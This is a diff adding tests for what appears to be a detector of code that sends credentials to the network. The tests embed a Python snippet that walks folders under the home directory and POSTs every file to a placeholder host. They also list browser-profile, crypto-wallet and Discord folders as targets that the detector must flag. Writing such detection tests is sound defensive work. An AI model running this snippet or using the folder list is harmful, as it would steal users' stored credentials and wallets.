@@ -33,3 +33,17 @@ test.each([
 ])('a client that sends %s is told', async (_, lines) => {
   expect(await ofNetrc(lines)).toHaveLength(1);
 });
+
+/** Whether it is told that each file below this folder is sent. */
+async function sendsAllOf(folder: string): Promise<boolean> {
+  const { facts } = await read(`import os\nimport requests\n\nfor folder, _, names in os.walk(os.path.expanduser("~/${folder}")):\n    for name in names:\n        requests.post("https://report.example.invalid", data=open(os.path.join(folder, name), "rb").read())\n`);
+  return facts !== null && credentialsToNetwork.check(facts).some(({ severity }) => severity === 'critical');
+}
+
+test.each(['.config/google-chrome', 'AppData/Local/Google/Chrome/User Data', 'Library/Application Support/BraveSoftware/Brave-Browser', '.mozilla/firefox', 'AppData/Roaming/Exodus', '.electrum', 'AppData/Roaming/discord'])('whoever sends all files below %s is blocked', async (folder) => {
+  expect(await sendsAllOf(folder)).toBe(true);
+});
+
+test.each(['.config/garden', 'AppData/Local/Google', 'projects/discord', 'AppData/Roaming/Electrum Cash Register'])('a folder such as %s is none that other programs keep secrets in', async (folder) => {
+  expect(await sendsAllOf(folder)).toBe(false);
+});
